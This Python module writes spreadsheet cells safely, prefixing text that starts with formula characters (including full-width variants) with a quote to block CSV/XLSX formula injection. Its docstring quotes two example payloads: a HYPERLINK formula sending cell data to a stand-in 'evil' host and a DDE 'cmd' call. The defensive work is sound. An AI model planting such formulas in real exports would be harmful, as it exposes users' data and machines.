"""The one writer of spreadsheet cells: user text is written as text, never as a formula.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
read as a formula by Excel, LibreOffice and Google Sheets when the file is
opened (`=HYPERLINK("http://evil/?"&A1)`, `=cmd|' /C calc'!A0`). Following
OWASP's CSV-injection guidance, such text is prefixed with a single quote, which
spreadsheet programs show as text. Numbers stay numbers (a negative count is
not text a user typed).

Every export goes through here: CSV (`csv_writer`), openpyxl sheets
(`safe_row` before `append`), and the streaming XLSX writer of the dashboards
(`safe_row` in `XlsxStream.append`). `tests/security/test_exports.py` fails
when a module writes CSV or XLSX without it.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D) start a formula. Full-width
# ＝ ＋ － ＠ are turned into formulas by some spreadsheet programs' input normalisation: neutralised too.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

_PLAIN = (int, float, Decimal, dt.date, dt.datetime, dt.time, bool)


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may hold it: text that would start a formula gets a leading quote."""
    if value is None or isinstance(value, _PLAIN):
        return value
    text = str(value)
    if text.startswith(FORMULA_LEADS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose every cell went through `safe_cell`."""

    def __init__(self, stream, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs: Any) -> SafeCsvWriter:
    """The CSV writer of every export."""
    return SafeCsvWriter(stream, **kwargs)


class Echo:
    """A file-like object whose write returns the line, for StreamingHttpResponse CSVs."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]], **kwargs: Any):
    """Each row as one CSV line (for streaming responses)."""
    writer = csv_writer(Echo(), **kwargs)
    for row in rows:
        yield writer.writerow(row)


def unquote_cell(text: str) -> str:
    """What `safe_cell` wrote, read back (an import of an export): the quote before a formula lead dropped."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_LEADS):
        return text[1:]
    return text
